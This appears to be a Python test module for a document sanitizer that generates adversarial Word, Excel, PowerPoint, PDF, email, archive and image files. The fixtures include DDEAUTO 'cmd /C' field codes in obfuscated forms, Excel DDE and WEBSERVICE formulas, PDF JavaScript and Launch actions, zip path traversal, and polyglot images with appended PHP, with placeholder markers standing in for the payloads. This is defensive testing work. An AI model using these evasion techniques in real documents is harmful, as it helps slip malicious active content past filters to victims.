"""Variations across formats: strict relation types, fields in odd places, tricks of packages, objects within objects."""

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream
from PIL import Image

from tests.sanitizer.office import (
    OFFICE,
    SPACES,
    Package,
    document,
    paragraph,
    presentation,
    shape,
)

from .carriers import in_sheet, in_word
from .common import MARKER, URL, VISIBLE, Attack
from .pdf import page_file

_STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships/"
_TYPE = "application/vnd.openxmlformats-officedocument."
_DDE = f'DDEAUTO "cmd" "/C {MARKER}"'
_RUN = "<w:r><w:fldChar w:fldCharType='{0}'/></w:r>"


# -- Word -----------------------------------------------------------------------------------------------------------


def _field(code: str, result: str = "1") -> str:
    """A field of runs; ``code`` is what stands between its beginning and its separation."""
    inner = f"<w:r><w:instrText>{code}</w:instrText></w:r>" if "<" not in code else code
    return (
        _RUN.format("begin")
        + inner
        + _RUN.format("separate")
        + f"<w:r><w:t>{result}</w:t></w:r>"
        + _RUN.format("end")
    )


def _part(
    relation: str, name: str, kind: str, content: str | bytes = MARKER, owner: str = ""
) -> Callable[[Package], Any]:
    def mend(package: Package) -> None:
        package.relate(owner or package.main, relation, name, id="rIdA")
        package.add(name, content, kind)

    return mend


def _story(relation: str, root: str, inside: str) -> Callable[[Package], Any]:
    """Another story of the document (header, note, comment ...) with this inside."""
    wrapped = {"footnotes": "footnote", "endnotes": "endnote", "comments": "comment"}.get(relation)
    body = f"<w:p>{inside}</w:p>"
    if wrapped:
        body = f'<w:{wrapped} w:id="2" w:author="a">{body}</w:{wrapped}>'
    kind = f"{_TYPE}wordprocessingml.{relation}+xml"
    return _part(relation, f"word/{relation}1.xml", kind, f"<w:{root} {SPACES}>{body}</w:{root}>")


def _words() -> Iterator[Attack]:
    for relation, content in (
        ("vbaProject", "application/vnd.ms-office.vbaProject"), ("oleObject", f"{_TYPE}oleObject"),
        ("aFChunk", "text/html"), ("attachedTemplate", "application/xml"), ("package", "application/octet-stream"),
    ):  # fmt: skip
        yield in_word(f"strict {relation}", mend=_part(_STRICT + relation, "word/a.bin", content))
        outside = _STRICT + relation
        yield in_word(
            f"strict {relation} outside", mend=lambda p, outside=outside: p.link(outside, URL, external=True)
        )
        yield in_word(f"{relation} of the package", mend=lambda p, relation=relation, content=content: (
            p.relate("", relation, "a.bin"), p.add("a.bin", MARKER, content)))  # fmt: skip
    for relation, root in (
        ("header", "hdr"),
        ("footer", "ftr"),
        ("footnotes", "footnotes"),
        ("comments", "comments"),
    ):
        yield in_word(f"field in {relation}", mend=_story(relation, root, _field(_DDE)))
    places = {
        "a structured tag": "<w:sdt><w:sdtContent><w:p>{0}</w:p></w:sdtContent></w:sdt>",
        "a table in a table": "<w:tbl><w:tr><w:tc><w:tbl><w:tr><w:tc><w:p>{0}</w:p></w:tc></w:tr></w:tbl><w:p/></w:tc></w:tr></w:tbl>",
        "a text box": "<w:p><w:r><w:pict><v:shape style='width:9pt;height:9pt'><v:textbox><w:txbxContent><w:p>{0}</w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>",
        "an insertion": "<w:p><w:ins w:id='1' w:author='a'>{0}</w:ins></w:p>",
        "a moved run": "<w:p><w:moveTo w:id='1' w:author='a'>{0}</w:moveTo></w:p>",
        "a smart tag": "<w:p><w:smartTag w:uri='a' w:element='b'>{0}</w:smartTag></w:p>",
        "custom markup": "<w:customXml w:uri='a' w:element='b'><w:p>{0}</w:p></w:customXml>",
        "a link": "<w:p><w:hyperlink w:anchor='a'>{0}</w:hyperlink></w:p>",
        "a direction": "<w:p><w:bdo w:val='rtl'>{0}</w:bdo></w:p>",
        "furigana": "<w:p><w:r><w:ruby><w:rubyPr/><w:rt>{0}</w:rt><w:rubyBase><w:r><w:t>漢</w:t></w:r></w:rubyBase></w:ruby></w:r></w:p>",
        "the fallback of a choice": "<mc:AlternateContent><mc:Choice Requires='x'/><mc:Fallback><w:p>{0}</w:p></mc:Fallback></mc:AlternateContent>",
    }  # fmt: skip
    for place, around in places.items():
        yield in_word(f"field in {place}", around.format(_field(_DDE)))
        yield in_word(
            f"simple field in {place}",
            around.format(f"<w:fldSimple w:instr='{_DDE}'><w:r><w:t>1</w:t></w:r></w:fldSimple>"),
        )
    said = "<w:r><w:instrText>{0}</w:instrText></w:r>"
    codes = {
        "over paragraphs": said.format("DDE") + "</w:p><w:p>" + said.format(f'AUTO "cmd" "{MARKER}"'),
        "with a tab between": said.format("DDE") + "<w:r><w:tab/></w:r>" + said.format(f'"cmd" "{MARKER}"'),
        "with hyphens between": said.format("DDE") + "<w:r><w:softHyphen/><w:noBreakHyphen/></w:r>" + said.format(f'AUTO "{MARKER}"'),
        "with a bookmark between": said.format("DD") + "<w:bookmarkStart w:id='0' w:name='a'/><w:bookmarkEnd w:id='0'/>" + said.format(f'E "{MARKER}"'),
        "in numbers of letters": said.format("&#x44;&#68;&#x45; ") + said.format(f'"{MARKER}"'),
        "with marks without width": said.format("D\u200bD\u200dE ") + said.format(f'"{MARKER}"'),
        "in wide letters": said.format("ＤＤＥＡＵＴＯ ") + said.format(f'"{MARKER}"'),
        "after a switch": said.format(f'\\* MERGEFORMAT DDE "{MARKER}"'),
        "in quotes": said.format(f'"DDE" "cmd" "{MARKER}"'),
        "in a deletion": "<w:del w:id='1' w:author='a'><w:r><w:delInstrText>" + _DDE + "</w:delInstrText></w:r></w:del>",
        "behind a harmless word": said.format(f'PAGE DDE "{MARKER}"'),
        "in a condition": said.format("IF 1 = 1 ") + _field(_DDE) + said.format(' ""'),
        "three deep": said.format("IF ") + _field(said.format("= ") + _field(_DDE)) + said.format(" = 1"),
    }  # fmt: skip
    for name, code in codes.items():
        yield in_word(f"field {name}", f"<w:p>{_field(code)}</w:p>")
    elements = {
        "background picture": f"<w:background><v:background><v:fill r:id='rIdA' src='{URL}' o:href='{URL}'/></v:background></w:background>",
        "picture of a shape": f"<w:p><w:r><w:pict><v:shape><v:imagedata src='{URL}' o:href='{URL}' r:href='rIdA'/></v:shape></w:pict></w:r></w:p>",
        "object in a picture": f"<w:p><w:r><w:pict><o:OLEObject Type='Link' ProgID='{MARKER}' r:id='rIdA'/></w:pict></w:r></w:p>",
        "binary data": f"<w:p><w:r><w:pict><w:binData w:name='{MARKER}'>TVqQ</w:binData></w:pict></w:r></w:p>",
        "movie": f"<w:p><w:r><w:pict><w:movie r:id='rIdA' w:name='{MARKER}'/></w:pict></w:r></w:p>",
        "script anchor": f"<w:p><w:r><w:scriptAnchor w:name='{MARKER}'/></w:r></w:p>",
        "place of a link": f"<w:p><w:hyperlink w:docLocation='file:///{MARKER}' w:tgtFrame='{MARKER}'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>",
        "bound tag": f"<w:sdt><w:sdtPr><w:dataBinding w:xpath='{MARKER}' w:storeItemID='{MARKER}'/></w:sdtPr><w:sdtContent>{paragraph('x')}</w:sdtContent></w:sdt>",
        "event of a shape": f"<w:p><w:r><w:pict><v:shape onmouseover='{MARKER}' o:button='t' href='javascript:{MARKER}' target='{MARKER}'/></w:pict></w:r></w:p>",
    }  # fmt: skip
    outside = {"background picture", "picture of a shape", "object in a picture", "movie"}
    for name, body in elements.items():
        yield in_word(name, body, mend=lambda p, name=name: name in outside and p.relate(
            p.main, "image", URL, external=True, id="rIdA"))  # fmt: skip
    settings = f"{_TYPE}wordprocessingml.settings+xml"
    for name, inside in (
        ("schema", f"<w:attachedSchema w:val='{MARKER}'/>"), ("transformation", f"<w:saveThroughXslt r:id='rId1' w:solutionID='{MARKER}'/>"),
        ("mail merge query", f"<w:mailMerge><w:query w:val='{MARKER}'/><w:dataSource r:id='rId1'/></w:mailMerge>"),
        ("variables", f"<w:docVars><w:docVar w:name='a' w:val='{MARKER}'/></w:docVars>"),
        ("schema library", f"<sl:schemaLibrary xmlns:sl='http://schemas.openxmlformats.org/schemaLibrary/2006/main'><sl:schema sl:uri='{MARKER}'/></sl:schemaLibrary>"),
    ):  # fmt: skip
        content = f"<w:settings {SPACES}>{inside}</w:settings>"
        yield in_word(f"settings {name}", mend=_part("settings", "word/settings.xml", settings, content))
    frames = f"<w:webSettings {SPACES}><w:frameset><w:frame><w:sourceFileName r:id='rId1'/><w:name w:val='{MARKER}'/></w:frame></w:frameset></w:webSettings>"
    yield in_word(
        "frames of the web",
        mend=_part("webSettings", "word/webSettings.xml", f"{_TYPE}wordprocessingml.webSettings+xml", frames),
    )
    for name, target in (
        ("in capitals", f"FILE:///{MARKER}"), ("with a blank before", f" javascript:{MARKER}"), ("with entities", f"&#x66;ile:///{MARKER}"),
        ("percent", f"%66ile:///{MARKER}"), ("with a line feed", f"java&#10;script:{MARKER}"), ("of slashes", f"//127.0.0.1/{MARKER}"),
        ("of mixed slashes", f"http:\\\\127.0.0.1\\{MARKER}"), ("of a help file", f"ms-its:{MARKER}"), ("of a calendar", f"webcal://127.0.0.1/{MARKER}"),
        ("of mail with a file", f"mailto:a@example.jp?attach=/etc/{MARKER}"),
    ):  # fmt: skip
        link = "<w:p><w:hyperlink r:id='rIdA'><w:r><w:t>x</w:t></w:r></w:hyperlink></w:p>"
        yield in_word(f"link {name}", link, mend=lambda p, target=target: p.relate(
            p.main, "hyperlink", target, external=True, id="rIdA"))  # fmt: skip


# -- tricks of packages -----------------------------------------------------------------------------------------------


def _packages() -> Iterator[Attack]:
    yield Attack("docx two content types of a part", lambda: _renamed(
        b'<Override PartName="/word/document.xml"', b'<Override PartName="/WORD/A.bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml"'), "docx")  # fmt: skip
    yield Attack("docx local name differs", lambda: _other_local_name(), "docx", refused=True)
    yield Attack(
        "docx compressed by another method",
        lambda: _packed(zipfile.ZIP_BZIP2),
        "docx",
        shows=lambda output: True,
    )
    yield Attack("docx relations with a base", lambda: _renamed(
        b"<Relationships ", f'<Relationships xml:base="{URL}/" '.encode()), "docx")  # fmt: skip
    yield Attack("docx relation of no mode", lambda: _renamed(
        b"</Relationships>", f'<Relationship Id="x" Type="{OFFICE}/image" Target="{URL}"/></Relationships>'.encode()), "docx")  # fmt: skip
    yield Attack("docx mode in lower case", lambda: _renamed(
        b"</Relationships>", f'<Relationship Id="x" Type="{OFFICE}/attachedTemplate" Target="{URL}" TargetMode="external"/></Relationships>'.encode()), "docx")  # fmt: skip


def _renamed(old: bytes, new: bytes) -> bytes:
    """A document whose parts have one run of bytes replaced."""
    source = zipfile.ZipFile(io.BytesIO(document(paragraph(VISIBLE)).build()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name).replace(old, new, 1))
        target.writestr("WORD/A.bin", MARKER)
    return out.getvalue()


def _other_local_name() -> bytes:
    data = document(paragraph(VISIBLE)).add("word/markerA.bin", MARKER).build()
    at = data.index(b"word/markerA.bin")
    return data[:at] + b"word/markerB.bin" + data[at + 16 :]


def _packed(method: int) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(document(paragraph(VISIBLE)).build()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
    return out.getvalue()


# -- Excel and PowerPoint -----------------------------------------------------------------------------------------------


def _sheets() -> Iterator[Attack]:
    formulas = {
        "in numbers of letters": f"cmd&#x7c;&#39;/C {MARKER}&#39;!A0", "in pieces of text": f"<![CDATA[cmd|'/C ]]><![CDATA[{MARKER}'!A0]]>",
        "with blanks": f" + cmd | '/C {MARKER}' ! A0", "in an array": f"{{1,2}}+cmd|'{MARKER}'!A0", "in lambda": f'LAMBDA(x,WEBSERVICE("{URL}"&amp;x))(1)',
        "in let": f'LET(a,"{URL}",HYPERLINK(a))', "with a prefix": f'_xlfn._xlws.WEBSERVICE("{URL}")', "in filterxml": f'FILTERXML(WEBSERVICE("{URL}"),"//a")',
        "of stock history": f'STOCKHISTORY("{MARKER}",1)', "of sql": f'SQL.REQUEST("{MARKER}")', "evaluate": f'EVALUATE("{MARKER}")',
        "of a path": f"'\\\\127.0.0.1\\{MARKER}\\[a.xlsx]S'!A1", "of a web path": f"'http://127.0.0.1/[{MARKER}.xlsx]S'!A1",
    }  # fmt: skip
    for name, formula in formulas.items():
        yield in_sheet(f"formula {name}", f"<c r='B1'><f>{formula}</f><v>1</v></c>")
    for name, place in (
        ("another book", f"'[{MARKER}.xlsx]S'!A1"),
        ("another book alone", f"[{MARKER}.xlsx]S!A1"),
        ("a program", f"cmd|{MARKER}!A0"),
    ):
        yield in_sheet(
            f"link to {name} as a place",
            "",
            f'<hyperlinks><hyperlink ref="A1" location="{place}"/></hyperlinks>',
        )
    yield in_sheet("table of data", f"<c r='B1'><f t='dataTable' ref='B1' r1='{MARKER}'/><v>1</v></c>")
    yield in_sheet("metadata of a cell", "<c r='B1' vm='1' cm='1'><v>1</v></c>", mend=_part(
        "sheetMetadata", "xl/metadata.xml", f"{_TYPE}spreadsheetml.sheetMetadata+xml", f"<metadata>{MARKER}</metadata>"))  # fmt: skip
    for name, relation, kind in (
        ("pictures of the web", "http://schemas.microsoft.com/office/2020/07/relationships/rdRichValueWebImage", "application/vnd.ms-excel.rdrichvaluewebimage+xml"),
        ("rich values", "http://schemas.microsoft.com/office/2017/06/relationships/rdRichValue", "application/vnd.ms-excel.rdrichvalue+xml"),
        ("persons", "http://schemas.microsoft.com/office/2017/10/relationships/person", "application/vnd.ms-excel.person+xml"),
        ("slicers", "http://schemas.microsoft.com/office/2007/relationships/slicerCache", "application/vnd.ms-excel.slicerCache+xml"),
        ("pivot cache", f"{OFFICE}/pivotCacheDefinition", f"{_TYPE}spreadsheetml.pivotCacheDefinition+xml"),
        ("dialog sheet", f"{OFFICE}/dialogsheet", f"{_TYPE}spreadsheetml.dialogsheet+xml"),
        ("international macro sheet", "http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet", "application/vnd.ms-excel.intlmacrosheet+xml"),
        ("shared users", f"{OFFICE}/usernames", f"{_TYPE}spreadsheetml.userNames+xml"), ("changes", f"{OFFICE}/revisionHeaders", f"{_TYPE}spreadsheetml.revisionHeaders+xml"),
        ("maps of markup", f"{OFFICE}/xmlMaps", "application/xml"), ("volatile dependencies", f"{OFFICE}/volatileDependencies", f"{_TYPE}spreadsheetml.volatileDependencies+xml"),
        ("strict connections", f"{_STRICT}connections", f"{_TYPE}spreadsheetml.connections+xml"),
    ):  # fmt: skip
        yield in_sheet(name, mend=_part(relation, "xl/a1.xml", kind, f"<a>{MARKER}</a>"))
    drawing = (
        '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        f'xmlns:r="{OFFICE}"><xdr:twoCellAnchor><xdr:from><xdr:col>1</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>'
        "<xdr:to><xdr:col>3</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>3</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>{0}<xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"
    )
    one = "<xdr:sp macro='{0}' textlink='{1}'><xdr:nvSpPr><xdr:cNvPr id='2' name='a'>{2}</xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp>"
    for name, inside in (
        ("macro of a shape", one.format(f"[0]!{MARKER}", "", "")), ("text of a shape from another book", one.format("", f"[1]{MARKER}!A1", "")),
        ("link of a shape", one.format("", "", f"<a:hlinkClick r:id='rIdB' action='ppaction://macro?name={MARKER}' tooltip='{MARKER}'/>")),
    ):  # fmt: skip
        yield in_sheet(name, tail="<drawing r:id='rIdA'/>", mend=_drawing(drawing.format(inside)))


def _drawing(content: str) -> Callable[[Package], Any]:
    sheet, place = "xl/worksheets/sheet1.xml", "xl/drawings/drawing1.xml"

    def mend(package: Package) -> None:
        package.relate(sheet, "drawing", place, id="rIdA")
        package.add(place, content, f"{_TYPE}drawing+xml")
        package.relate(place, "hyperlink", f"file:///{MARKER}", external=True, id="rIdB")

    return mend


def _slides() -> Iterator[Attack]:
    slide = "ppt/slides/slide1.xml"
    for name, more in (
        ("ink part", "<p:contentPart r:id='rIdA'/>"),
        ("object in a fallback", f"<mc:AlternateContent xmlns:mc='http://schemas.openxmlformats.org/markup-compatibility/2006'><mc:Choice Requires='x'/><mc:Fallback><p:graphicFrame><p:oleObj progId='{MARKER}' r:id='rIdA'/></p:graphicFrame></mc:Fallback></mc:AlternateContent>"),
        ("web add-in", f"<p:graphicFrame><a:graphic><a:graphicData uri='http://schemas.microsoft.com/office/webextensions/webextension/2010/11'><we:webextensionref xmlns:we='http://schemas.microsoft.com/office/webextensions/webextension/2010/11' r:id='rIdA' a='{MARKER}'/></a:graphicData></a:graphic></p:graphicFrame>"),
    ):  # fmt: skip
        yield Attack(f"pptx {name}", lambda more=more: presentation(shape(VISIBLE) + more).build(), "pptx")
    for name, tail in (
        ("controls", f"<p:controls><p:control name='{MARKER}' r:id='rIdA'/></p:controls>"),
        ("custom data", f"<p:custDataLst><p:custData r:id='rIdA'/><p:tags r:id='{MARKER}'/></p:custDataLst>"),
        ("timing with a script", f"<p:timing><p:tnLst><p:par><p:cTn id='1'><p:childTnLst><p:audio><p:cMediaNode><p:tgtEl><p:sndTgt r:embed='rIdA' name='{MARKER}'/></p:tgtEl></p:cMediaNode></p:audio></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>"),
        ("media extension", f"<p:extLst><p:ext uri='{{DAA4B4D4-6D71-4841-9C94-3DE7FCFB9230}}'><p14:media xmlns:p14='http://schemas.microsoft.com/office/powerpoint/2010/main' r:embed='rIdA' a='{MARKER}'/></p:ext></p:extLst>"),
    ):  # fmt: skip
        yield Attack(f"pptx {name}", lambda tail=tail: _presented(slide, tail), "pptx")


def _presented(slide: str, tail: str) -> bytes:
    package = presentation(shape(VISIBLE), tail=tail)
    package.relate(slide, f"{OFFICE}/control", "ppt/a.bin", id="rIdA")
    return package.add("ppt/a.bin", MARKER, "application/vnd.ms-office.activeX+xml").build()


# -- PDF ----------------------------------------------------------------------------------------------------------------


def _javascript(said: str = f"app.alert('{MARKER}')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=said)


def _pdf(
    name: str, mend: Callable[[Pdf, Any], None], spelled: Callable[[bytes], bytes] = bytes, **saving: Any
) -> Attack:
    return Attack(
        f"pdf {name}",
        lambda: spelled(page_file(mend, **saving)),
        "pdf",
        shows=lambda output: output[:5] == b"%PDF-",
    )


def _pdfs() -> Iterator[Attack]:
    def opening(pdf: Pdf, page: Any) -> None:
        pdf.Root.OpenAction = _javascript()

    def chained(pdf: Pdf, page: Any) -> None:
        action = Dictionary(
            S=Name.GoTo,
            D=Array([page.obj, Name.Fit]),
            Next=Array([_javascript(), Dictionary(S=Name.Launch, F=MARKER)]),
        )
        pdf.Root.OpenAction = pdf.make_indirect(action)

    def named(pdf: Pdf, page: Any) -> None:
        leaf = pdf.make_indirect(Dictionary(Names=Array(["a", _javascript()]), Limits=Array(["a", "a"])))
        pdf.Root.Names = Dictionary(
            JavaScript=Dictionary(Kids=Array([pdf.make_indirect(Dictionary(Kids=Array([leaf])))]))
        )

    def of_bookmark(pdf: Pdf, page: Any) -> None:
        item = pdf.make_indirect(Dictionary(Title="a", A=_javascript()))
        pdf.Root.Outlines = pdf.make_indirect(Dictionary(First=item, Last=item, Count=1))

    def stream(pdf: Pdf, page: Any) -> None:
        pdf.Root.OpenAction = Dictionary(
            S=Name.JavaScript, JS=pdf.make_indirect(Stream(pdf, MARKER.encode()))
        )

    def form(pdf: Pdf, page: Any) -> None:
        field = Dictionary(
            FT=Name.Tx,
            T="a",
            DA="/F 9 Tf",
            AA=Dictionary(K=_javascript(), F=_javascript(), V=_javascript(), C=_javascript()),
        )
        pdf.Root.AcroForm = Dictionary(
            Fields=Array([pdf.make_indirect(field)]),
            CO=Array([]),
            XFA=Array(["a", pdf.make_indirect(Stream(pdf, MARKER.encode()))]),
        )

    def page_events(pdf: Pdf, page: Any) -> None:
        page.AA = Dictionary(O=_javascript(), C=_javascript())
        page.PresSteps = Dictionary(NA=_javascript())

    def of_group(pdf: Pdf, page: Any) -> None:
        group = pdf.make_indirect(Dictionary(Type=Name.OCG, Name="a", AA=_javascript()))
        pdf.Root.OCProperties = Dictionary(
            OCGs=Array([group]), D=Dictionary(AS=Array([]), Order=Array([MARKER, group]))
        )

    def threads(pdf: Pdf, page: Any) -> None:
        page.B = Array([pdf.make_indirect(Dictionary(T=Dictionary(I=Dictionary(Title=MARKER)), P=page.obj))])

    def ps_object(pdf: Pdf, page: Any) -> None:
        made = Stream(pdf, MARKER.encode())
        made.Type, made.Subtype = Name.XObject, Name.PS
        page.Resources.XObject = Dictionary(P=pdf.make_indirect(made))
        page.Contents = Array([page.Contents, Stream(pdf, b"/P Do")])

    def transfer(pdf: Pdf, page: Any) -> None:
        program = Stream(pdf, f"{{ pop ({MARKER}) }}".encode())
        program.FunctionType, program.Domain, program.Range = 4, Array([0, 1]), Array([0, 1])
        page.Resources.ExtGState = Dictionary(
            G=Dictionary(TR=pdf.make_indirect(program), HT=Name("/" + MARKER))
        )
        page.Contents = Array([Stream(pdf, b"/G gs"), page.Contents])

    def in_content(pdf: Pdf, page: Any) -> None:
        page.Contents = Array(
            [
                page.Contents,
                Stream(
                    pdf, f"% {MARKER}\n/T <</A ({MARKER})>> DP ({MARKER}) foo BX ({MARKER}) bar EX".encode()
                ),
            ]
        )

    def of_resources(pdf: Pdf, page: Any) -> None:
        page.Resources[f"/{MARKER}"] = Dictionary(A=MARKER)
        page.Resources.Properties = Dictionary(
            M=Dictionary(Metadata=pdf.make_indirect(Stream(pdf, MARKER.encode())))
        )

    ways = (
        opening,
        chained,
        named,
        of_bookmark,
        stream,
        form,
        page_events,
        of_group,
        threads,
        ps_object,
        transfer,
        in_content,
        of_resources,
    )
    for way in ways:
        name = way.__name__.replace("_", " ")
        yield _pdf(name, way)
        yield _pdf(f"{name} in object streams", way, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield _pdf(
        "escaped names",
        opening,
        lambda data: data.replace(b"/JavaScript", b"/J#61v#61Script").replace(
            b"/OpenAction", b"/Open#41ction"
        ),
    )
    yield _pdf("a catalog in an update", lambda pdf, page: None, _updated)
    yield Attack(
        "pdf page behind",
        lambda: page_file(opening) + f"\n<script>{MARKER}</script>".encode(),
        "pdf",
        refused=True,
    )


def _updated(data: bytes) -> bytes:
    """The file with an update behind it that gives it another catalog."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        root, tree, size = pdf.Root.objgen[0], pdf.Root.Pages.objgen[0], len(pdf.objects) + 1
    last = data.rindex(b"startxref")
    before = int(data[last + 9 :].split()[0])
    at = len(data)
    made = b"%d 0 obj\n<</Type/Catalog/Pages %d 0 R/OpenAction<</S/JavaScript/JS(%s)>>>>\nendobj\n" % (
        root,
        tree,
        MARKER.encode(),
    )
    table = b"xref\n%d 1\n%010d 00000 n \ntrailer\n<</Size %d/Root %d 0 R/Prev %d>>\n" % (
        root,
        at,
        size,
        root,
        before,
    )
    return data + made + table + b"startxref\n%d\n%%%%EOF\n" % (at + len(made))


# -- mail, archives and pictures ------------------------------------------------------------------------------------------


def _mail(
    name: str, mend: Callable[[EmailMessage], Any], spelled: Callable[[bytes], bytes] = bytes, **more: Any
) -> Attack:
    def build() -> bytes:
        message = EmailMessage()
        message["From"], message["To"], message["Subject"] = "a@example.jp", "b@example.jp", "a"
        message.set_content(VISIBLE)
        mend(message)
        return spelled(message.as_bytes())

    return Attack(f"eml {name}", build, "eml", **more)


def _mails() -> Iterator[Attack]:
    macro = document(paragraph("words")).add(
        "word/vbaProject.bin", MARKER, "application/vnd.ms-office.vbaProject"
    )
    macro.link("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "word/vbaProject.bin")

    def nested(message: EmailMessage, depth: int = 3) -> None:
        inner = EmailMessage()
        inner["Subject"], inner["X-Way"] = "inner", MARKER
        inner.set_content("inside")
        if depth:
            nested(inner, depth - 1)
        inner.add_attachment(macro.build(), maintype="application", subtype="octet-stream", filename="a.docx")
        message.add_attachment(inner)

    yield _mail("mails in mails with a macro", nested)
    yield _mail(
        "page as an alternative of an alternative",
        lambda m: m.add_alternative(
            f"<p>words<img src='{URL}'><svg onload='{MARKER}'></svg></p>", subtype="html"
        ),
    )
    yield _mail(
        "mobile page",
        lambda m: m.add_alternative(f"<p>words</p><form action='{URL}'></form>", subtype="x-amp-html"),
    )
    yield _mail(
        "signature part",
        lambda m: m.add_attachment(
            MARKER.encode(), maintype="application", subtype="pkcs7-signature", filename="smime.p7s"
        ),
    )
    yield _mail(
        "folded header",
        lambda m: None,
        lambda data: data.replace(b"Subject: a", f"X-A:\r\n\t{MARKER}\r\nSubject: a".encode()),
    )


def _archives() -> Iterator[Attack]:
    yield Attack(
        "zip deep path with dots",
        lambda: _zipped({f"a/./b/../../../{MARKER}.txt": VISIBLE.encode()}),
        "zip",
        gone=("./",),
        shows=lambda output: True,
    )
    yield Attack(
        "zip devices in folders",
        lambda: _zipped({"CON/a.txt": VISIBLE.encode(), f"AUX.{MARKER}/b.txt": b"b"}),
        "zip",
        gone=("PCON/", "/CON/"),
        shows=lambda output: True,
    )
    yield Attack(
        "tar sparse and long link", lambda: _tarred(f"../{MARKER}"), "tar", shows=lambda output: True
    )
    yield Attack("zip document in a zip in a tar", lambda: _nested_macro(), "tar", shows=lambda output: True)


def _zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _tarred(target: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as archive:
        info = tarfile.TarInfo("a.txt")
        info.size = len(VISIBLE.encode())
        archive.addfile(info, io.BytesIO(VISIBLE.encode()))
        link = tarfile.TarInfo("b.txt")
        link.type, link.linkname = tarfile.SYMTYPE, target + "x" * 200
        archive.addfile(link)
    return out.getvalue()


def _nested_macro() -> bytes:
    package = document(paragraph(VISIBLE)).add("word/a.bin", MARKER, "application/vnd.ms-office.vbaProject")
    package.link("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "word/a.bin")
    inner = _zipped({"b/c.docx": package.build()})
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("a.zip")
        info.size = len(inner)
        archive.addfile(info, io.BytesIO(inner))
    return out.getvalue()


def _pictures() -> Iterator[Attack]:
    def png() -> bytes:
        out = io.BytesIO()
        Image.linear_gradient("L").save(out, "PNG")
        return out.getvalue()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    for kind in (b"iTXt", b"eXIf", b"sPLT", b"caBX", b"prVt"):
        yield Attack(
            f"png odd {kind.decode()}",
            lambda kind=kind: png()[:33] + chunk(kind, b"a\0" + MARKER.encode()) + png()[33:],
            "png",
            shows=lambda output: True,
        )
    yield Attack(
        "png behind a png", lambda: png() + png() + MARKER.encode(), "png", shows=lambda output: True
    )
    jpeg = io.BytesIO()
    Image.linear_gradient("L").save(jpeg, "JPEG")
    for mark in (0xE2, 0xED, 0xEE, 0xEF, 0xFE):
        piece = bytes([0xFF, mark]) + struct.pack(">H", len(MARKER) + 2) + MARKER.encode()
        yield Attack(
            f"jpg odd segment {mark:x}",
            lambda piece=piece: jpeg.getvalue()[:2] + piece + jpeg.getvalue()[2:],
            "jpg",
            shows=lambda output: True,
        )
    yield Attack(
        "jpg program of a page behind",
        lambda: jpeg.getvalue() + f"<?php {MARKER}".encode(),
        "jpg",
        shows=lambda output: True,
    )


ATTACKS = (*_words(), *_packages(), *_sheets(), *_slides(), *_pdfs(), *_mails(), *_archives(), *_pictures())
